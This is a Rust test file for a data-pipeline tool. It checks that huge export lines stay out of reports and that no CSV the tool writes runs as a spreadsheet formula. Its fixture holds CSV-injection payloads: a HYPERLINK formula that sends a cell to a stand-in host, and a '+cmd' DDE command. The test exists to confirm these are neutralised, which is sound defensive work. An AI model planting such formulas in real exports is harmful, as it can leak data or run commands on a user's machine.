//! Export text is quoted, never copied whole, into messages; and no CSV written runs a formula in
//! the spreadsheet that opens it.

use super::*;

#[test]
fn a_thirty_megabyte_line_stays_out_of_reports_manifests_and_the_ledger() {
    const LIMIT: u64 = 1 << 20;
    let huge = "x".repeat(30 << 20);
    // The whole export is one line without a line break: its header, without the mapped column.
    let dir = small_project(&format!("mese,voce,{huge}"));
    let p = dir.path();
    write(
        p,
        "pipelines/p.yaml",
        PIPELINE
            .replace(
                "format: csv }",
                "format: csv, columns: { importo: Importo } }",
            )
            .as_bytes(),
    );
    let out = osservatorio(p, &["run"]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(1), "{}", &t[..t.len().min(2000)]);
    assert!(t.len() < LIMIT as usize, "output of {} bytes", t.len());
    assert!(t.contains("spese.csv"), "{}", &t[..t.len().min(2000)]);
    for f in ["out/index.html", "warehouse/_manifests", "warehouse/_runs"] {
        assert!(p.join(f).exists(), "{f}");
        assert!(
            size_of(&p.join(f)) < LIMIT,
            "{f}: {} bytes",
            size_of(&p.join(f))
        );
    }
    assert!(ledger(p).len() < LIMIT as usize);

    // A row with an 8 MB cell (within a line's limit): rejected, its value quoted in a few hundred bytes.
    let big = "x".repeat(8 << 20);
    let dir = small_project(&format!(
        "mese,voce,importo\n2024-01-01,vitto,1\n2024-01-01,vitto,{big}\n"
    ));
    let p = dir.path();
    let out = osservatorio(p, &["run"]);
    let t = text(&out);
    assert!(t.len() < LIMIT as usize, "output of {} bytes", t.len());
    let rej = common::rejected(p, "spese", "spese-pd");
    assert_eq!(rej.len(), 1, "{}", &t[..t.len().min(2000)]);
    assert_eq!(rej[0].0, 3);
    assert!(
        rej[0].2.starts_with("xxxx") && rej[0].2.len() < 1000,
        "{} bytes",
        rej[0].2.len()
    );
    for f in ["out/index.html", "warehouse/_manifests", "warehouse/_runs"] {
        assert!(
            size_of(&p.join(f)) < LIMIT,
            "{f}: {} bytes",
            size_of(&p.join(f))
        );
    }
}

// ---- 5. No CSV written runs a formula in the spreadsheet that opens it ----------------------

/// Panics on a cell of `csv` a spreadsheet would run as a formula; returns how many cells it has.
fn assert_no_formula(csv: &[u8], what: &str) -> usize {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv);
    let mut cells = 0;
    for rec in r.records() {
        for c in rec.expect("a CSV record").iter() {
            cells += 1;
            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !risky || c.parse::<f64>().is_ok(),
                "{what}: a cell a spreadsheet would run: {c:?}"
            );
        }
    }
    cells
}

#[test]
fn codes_that_look_like_formulas_are_written_as_text_in_every_csv() {
    let pipeline = "name: p\ntables:\n  spese:\n    columns: { mese: date, voce: string, importo: float }\n    checks:\n      - { name: importo_positivo, rule: \"importo >= 0\", severity: warning }\n    outliers:\n      - { columns: [importo], by: voce, threshold: 1.0 }\nsources:\n  - { name: spese-pd, table: spese, territory: PD, url: spese.csv, format: csv }\n";
    let indicators = "indicators:\n  - id: spesa\n    title: Spesa\n    kind: output\n    unit: euro\n    grain: year\n    small_cells: show\n    sql: SELECT _territory AS territory, voce AS period, SUM(importo) AS numerator FROM spese GROUP BY 1, 2\n  - id: saldo\n    title: Saldo\n    kind: output\n    unit: euro\n    grain: month\n    small_cells: show\n    sql: SELECT _territory AS territory, mese AS period, SUM(importo) AS numerator FROM spese GROUP BY 1, 2\n";
    let dashboard = "id: spese\ntitle: Spese\nperiod: { from: \"2024-01\", to: \"2024-12\" }\nsections:\n  - title: Spesa\n    charts:\n      - { type: trend, indicator: saldo, territories: [PD], grain: month }\n      - { type: table, indicators: [saldo, spesa], territories: [PD] }\n";
    let csv = "mese,voce,importo\n\
        2024-01-01,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"y\"\")\",-3.5\n\
        2024-02-01,@SUM(A1),-3.5\n\
        2024-03-01,\"+cmd|' /C calc'!A0\",2\n\
        2024-04-01,-2+3,4\n\
        2024-05-01,\"\tx\",500\n";
    let dir = project(&[
        ("pipelines/p.yaml", pipeline.as_bytes()),
        ("indicators/i.yaml", indicators.as_bytes()),
        ("dashboards/spese.yaml", dashboard.as_bytes()),
        ("spese.csv", csv.as_bytes()),
    ]);
    let p = dir.path();
    let out = osservatorio(p, &["run"]);
    let t = text(&out);
    assert!(out.status.code().is_some_and(|c| c <= 1), "{t}");

    let q = osservatorio(
        p,
        &[
            "query",
            "SELECT voce, importo FROM spese ORDER BY _line",
            "--format",
            "csv",
        ],
    );
    assert_eq!(q.status.code(), Some(0), "{}", text(&q));
    assert_no_formula(&q.stdout, "query");
    let shown = String::from_utf8_lossy(&q.stdout);
    assert!(
        shown.contains("'@SUM(A1),-3.5"),
        "text neutralised, numbers kept: {shown}"
    );
    assert!(shown.contains("'-2+3,4"), "{shown}");

    for args in [
        vec!["findings", "--format", "csv"],
        vec!["history", "saldo", "--format", "csv"],
        vec!["runs", "--format", "csv"],
    ] {
        let o = osservatorio(p, &args);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o));
        assert_no_formula(&o.stdout, &args.join(" "));
    }

    let mut stack = vec![p.join("out")];
    let mut files = 0;
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("a folder") {
            let path = e.expect("an entry").path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|x| x == "csv") {
                files += 1;
                assert_no_formula(
                    &std::fs::read(&path).expect("read"),
                    &path.display().to_string(),
                );
            }
        }
    }
    assert!(files >= 3, "{files} CSV files");
    let data = std::fs::read_to_string(p.join("out/spese/data.csv")).expect("data.csv");
    assert!(
        data.contains("-3.5") || data.contains("-7"),
        "negative numbers stay numbers: {data}"
    );
}
